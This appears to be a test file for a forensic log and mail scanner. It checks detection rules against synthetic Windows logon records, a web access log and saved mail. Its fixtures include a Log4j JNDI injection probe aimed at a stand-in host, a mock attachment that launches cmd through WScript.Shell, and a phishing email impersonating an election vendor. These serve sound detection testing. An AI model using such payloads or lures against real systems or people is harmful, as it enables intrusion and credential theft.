import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { makeFolder } from '../../tests/sources/temp-folder.ts'
import { bytesOf } from '../formats/documents/office.fixture.ts'
import { buildEvtx, type ElementSpec, numberValue, textValue, usualRecord } from '../formats/evtx/build-evtx.fixture.ts'
import { outlookFile } from '../formats/mail/outlook.fixture.ts'
import { bellwether, evidenceAt } from './program.fixture.ts'

describe('machines and mail in a scan', () => {
  const rule = `title: A clerk signed in over the network
id: 5f9f4a4e-3f6f-4f0e-9a53-0a3f0b6f1c11
level: high
tags: [attack.t1021]
logsource: { product: windows, service: security }
detection: { selection: { EventID: 4624, LogonType: 3 }, condition: selection }
`
  const named = (name: string, slot: number, type: number): ElementSpec => ({
    name: 'Data',
    attributes: { Name: name },
    content: [{ slot, type }],
  })
  const logons = [1, 2].map((id) =>
    usualRecord(id, 4624, {
      template: {
        id: 2,
        root: { name: 'EventData', content: [named('TargetUserName', 0, 1), named('LogonType', 1, 8)] },
      },
      values: [textValue('m.garza'), numberValue(8, 4, 3)],
    }),
  )
  const mail = [
    'From: "VR Systems Support" <vr.elections@gmail.com>',
    'To: clerk@elections.county.example',
    'Subject: New EViD User Guides',
    'Date: Thu, 27 Oct 2016 12:00:00 +0000',
    'Message-ID: <one@mail.example>',
    '',
    'Please take a look at the attached guides. VR Systems Inc.',
    '',
  ].join('\r\n')

  test('rules are matched on a binary log; each match and each record stands in its file, in words', () => {
    const cwd = makeFolder({ 'Security.evtx': buildEvtx([logons]), 'rule.yml': rule })
    const options = [
      '--rules',
      'rule.yml',
      'Security.evtx',
      '--hits',
      'hits.ndjson',
      '--evidence',
      'e.ndjson',
      '--json',
    ]
    const run = bellwether(['scan', ...options], { cwd })
    expect(run.status).toBe(0)
    const hits = readFileSync(join(cwd, 'hits.ndjson'), 'utf8').trimEnd().split('\n')
    expect(hits.map((line) => JSON.parse(line) as unknown)).toMatchObject(
      [1, 2].map((record) => ({
        rule: '5f9f4a4e-3f6f-4f0e-9a53-0a3f0b6f1c11',
        title: 'A clerk signed in over the network',
        level: 'high',
        file: 'Security.evtx',
        record,
      })),
    )
    const [first, ...others] = evidenceAt(join(cwd, 'e.ndjson'))
    expect(others).toHaveLength(1)
    expect(first?.kinds).toEqual(['rule-match'])
    expect(JSON.parse(first?.raw ?? '')).toMatchObject({ Event: { EventData: { TargetUserName: 'm.garza' } } })
    expect((JSON.parse(run.stdout) as { incidents: unknown[] }).incidents).toHaveLength(1)
    const [finding] = bellwether(['scan', '--rules', 'rule.yml', 'Security.evtx', '--ocsf'], { cwd }).stdout.split('\n')
    expect(JSON.parse(finding ?? '')).toMatchObject({
      message: expect.stringContaining('A clerk signed in over the network'),
      finding_info: { attacks: [{ technique: { uid: 'T1021' } }] },
    })
  })

  test('rules for web servers are shown the requests of a web log, by whoever sent them through the proxies', () => {
    const webRule = `title: A probe of Log4j
id: 5f9f4a4e-3f6f-4f0e-9a53-0a3f0b6f1c12
level: high
logsource: { category: webserver }
detection: { selection: { cs-method: GET, "cs-uri-query|contains": "\${jndi:" }, condition: selection }
`
    const line = (target: string): string =>
      `192.0.2.80 - - [23/Jun/2026:02:52:48 +0000] "GET ${target} HTTP/1.1" 200 12 "-" "curl/8" "203.0.113.9"\n`
    const cwd = makeFolder({
      'access.log': line('/lookup?county=5') + line('/lookup?q=%24%7Bjndi:ldap://x.example/a%7D'),
      'web.yml': webRule,
      'office.toml': '[office]\nname = "County"\ntrusted_proxies = ["192.0.2.80"]\n',
    })
    const options = ['--rules', 'web.yml', 'access.log', '--hits', 'hits.ndjson', '--evidence', 'e.ndjson', '--json']
    const run = bellwether(['scan', ...options, '--office', 'office.toml'], { cwd })
    expect(run.status).toBe(0)
    const hits = readFileSync(join(cwd, 'hits.ndjson'), 'utf8').trimEnd().split('\n')
    expect(hits.map((hit) => JSON.parse(hit) as unknown)).toMatchObject([
      { title: 'A probe of Log4j', file: 'access.log', record: 2 },
    ])
    const evidence = evidenceAt(join(cwd, 'e.ndjson')).filter(({ kinds }) => kinds.includes('rule-match'))
    expect(evidence.map(({ raw }) => raw)).toEqual([expect.stringContaining('%24%7Bjndi')])
    expect(run.stdout).toContain('203.0.113.9')
    expect(bellwether(['scan', 'access.log', '--json'], { cwd }).stdout).not.toContain('A probe of Log4j')
  })

  test('a message that Outlook saved is told by what it holds, whatever its name', () => {
    const message = outlookFile({
      from: ['VR Systems Support', 'vr.elections@gmail.com'],
      subject: 'New EViD User Guides',
      text: 'Please read the new guides.',
      files: [
        { name: 'Notes.txt', bytes: bytesOf('x'.repeat(400_000)) },
        { name: 'Guides.js', bytes: bytesOf('new ActiveXObject("WScript.Shell").Run("cmd")') },
      ],
    })
    const cwd = makeFolder({ kept: message })
    const { status, stdout } = bellwether(['scan', 'kept', '--evidence', 'e.ndjson'], { cwd })
    expect(status).toBe(0)
    expect(stdout).toContain('VR Systems')
    expect(evidenceAt(join(cwd, 'e.ndjson'))).toMatchObject([{ file: 'kept' }])
  })

  test('a mail in the name of a vendor is told, and stands whole in the evidence', () => {
    const cwd = makeFolder({ 'guides.eml': mail })
    const { status, stdout } = bellwether(['scan', 'guides.eml', '--evidence', 'e.ndjson'], { cwd })
    expect(status).toBe(0)
    expect(stdout).toContain('poses as')
    expect(evidenceAt(join(cwd, 'e.ndjson'))).toMatchObject([{ file: 'guides.eml', raw: mail }])
  })
})
